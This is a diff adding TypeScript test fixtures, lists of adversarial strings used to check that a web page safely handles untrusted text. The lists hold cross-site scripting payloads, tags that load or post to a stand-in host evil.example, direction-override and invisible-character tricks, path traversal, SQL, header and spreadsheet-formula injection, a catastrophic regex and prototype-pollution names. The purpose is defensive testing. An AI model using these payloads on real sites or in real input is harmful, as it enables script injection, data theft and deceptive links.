@@ -1,3 +1,87 @@
+/** Texts that act in a page that takes them for markup or code. Most call `__hit` or load a URL, which the tests detect. */
+const markup = [
+  "<script>__hit(1)</script>",
+  "</script><script>__hit(2)</script>",
+  "<img src=x onerror=__hit(3)>",
+  "<svg/onload=__hit(4)>",
+  "<svg><script>__hit(5)</script></svg>",
+  '"><img src="https://evil.example/pixel?6">',
+  "<iframe srcdoc='<script>parent.__hit(7)</script>'>",
+  "<a href=javascript:__hit(8)>Continue</a>",
+  "<style>@import 'https://evil.example/9.css';</style>",
+  "<link rel=stylesheet href=https://evil.example/10.css>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/11'>",
+  "<base href=https://evil.example/>",
+  "<form action=https://evil.example/13><button>Pay now</button></form>",
+  "<object data=https://evil.example/14></object>",
+  "<details open ontoggle=__hit(15)>x</details>",
+  "&lt;script&gt;__hit(16)&lt;/script&gt;",
+  "' onfocus=__hit(17) autofocus='",
+  "--><script>__hit(18)</script><!--",
+  "]]><script>__hit(19)</script>",
+  "javascript:__hit(20)",
+  "data:text/html,<script>__hit(21)</script>",
+  "${__hit(22)}{{__hit(22)}}{__hit(22)}",
+  "{count, plural, one {#} other {#}} {amount} {host}",
+  "\uE000amount\uE001\uE000host\uE001",
+] as const;
+
+/** Texts that change the direction of the text around them, overlap it, or are invisible. */
+const turning = [
+  "\u202Egnp.evil\u202C",
+  "\u202Enever ended",
+  "\u2067\u2067\u2067 isolates never ended",
+  "\u2069\u2069 ended too often",
+  "Shop \u202Emoc.live//:sptth",
+  "متجر <b>!</b> (100",
+  "חנות 100%",
+  "Z̴̧̛͓a̷̡͙l̵̢̫g̶̨͉o̴̡̙ ".repeat(8),
+  "nothing\u200B\u200C\u200D\uFEFF\u00ADseen",
+  "\u0007\u0008\u001B[31mred\u001B[0m",
+  "line\nbreak\r\nand\u2028others\u2029",
+] as const;
+
+/** Texts that break counting, cutting, encoding or comparing. */
+const odd = [
+  "W".repeat(400),
+  "word ".repeat(120),
+  "👩‍👩‍👧‍👦🏳️‍🌈🇯🇵".repeat(30),
+  "__proto__",
+  "constructor",
+  "hasOwnProperty",
+  "[object Object]",
+  "undefined",
+  "null",
+  "NaN",
+  "-1e308",
+  "%00%0d%0aSet-Cookie:%20a=b",
+  "../../../../etc/passwd",
+  "Robert'); DROP TABLE payins;--",
+  "=cmd|' /C calc'!A0",
+  "\\\\evil.example\\share",
+  "(a+)+$",
+  "ﷺ﷽",
+  "İİıi",
+  "한국어 日本語 ไทย हिन्दी ລາວ",
+] as const;
+
+/** Texts that break pages that trust them, for tests only. A lone surrogate is missing because a URL cannot carry it. */
+export const adversarialTexts: readonly string[] = [...markup, ...turning, ...odd];
+
+/** Names of parameters and fields that could reach a prototype, for tests only. */
+export const prototypeNames = [
+  "__proto__",
+  "__proto__[polluted]",
+  "__proto__.polluted",
+  "constructor",
+  "constructor[prototype][polluted]",
+  "constructor.prototype.polluted",
+  "prototype",
+  "toString",
+  "hasOwnProperty",
+  "valueOf",
+] as const;
+
 /** URLs that no page may follow (G24, G40). Each is a known way to mislead a reader or to run code. For tests only. */
 export const adversarialAddresses: readonly string[] = [
   // Schemes that run, read or call.
